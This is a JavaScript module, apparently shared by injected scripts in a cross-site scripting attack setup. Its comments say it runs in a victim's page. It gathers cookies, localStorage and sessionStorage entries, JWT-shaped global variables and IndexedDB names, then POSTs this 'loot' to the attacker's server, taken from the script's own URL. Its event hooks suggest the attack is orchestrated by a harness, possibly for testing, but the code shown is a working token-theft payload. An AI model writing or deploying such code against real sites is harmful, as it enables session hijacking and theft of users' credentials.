// Shared by the injected scripts. They run in the victim's page, with all the rights of the site's scripts.

// Saved before any other script can replace it.
const fetch = window.fetch.bind(window);

/** `address` is the script's own URL: it contains the attacker's origin and the target. */
export function aim(address) {
  const { origin: home, searchParams } = new URL(address);
  const parameters = Object.fromEntries(searchParams);
  return {
    ...parameters,
    /** Sends the loot to the attacker's server, which tries it before it responds. */
    send: (found) =>
      fetch(`${home}/collect?${searchParams}`, { method: "POST", mode: "no-cors", body: JSON.stringify({ found }) }),
    fetch,
  };
}

/** Everything that a script finds without waiting: storages, cookies, global variables. */
export async function everythingInReach() {
  const found = [];
  for (const [place, storage] of Object.entries({ localStorage, sessionStorage })) {
    for (const [name, value] of Object.entries(storage)) found.push({ place, name, value });
  }
  for (const pair of document.cookie.split("; ").filter(Boolean)) {
    const [name, ...value] = pair.split("=");
    found.push({ place: "document.cookie", name, value: value.join("=") });
  }
  for (const name of Object.getOwnPropertyNames(window)) {
    try {
      if (isToken(window[name])) found.push({ place: "window", name, value: window[name] });
    } catch {
      // Some properties throw when they are read.
    }
  }
  for (const { name } of (await indexedDB.databases?.()) ?? []) found.push({ place: "indexedDB", name, value: "" });
  return found;
}

/** A compact JWS (RFC 7515 §7.1), by its shape. */
export function isToken(value) {
  return typeof value === "string" && /^[\w-]{8,}\.[\w-]{8,}\.[\w-]{8,}$/.test(value);
}

export const ready = () => dispatchEvent(new Event("attack-ready"));
export const over = () => dispatchEvent(new Event("attack-over"));
export const visitorHasWorked = () => new Promise((then) => addEventListener("visitor-has-worked", then, { once: true }));
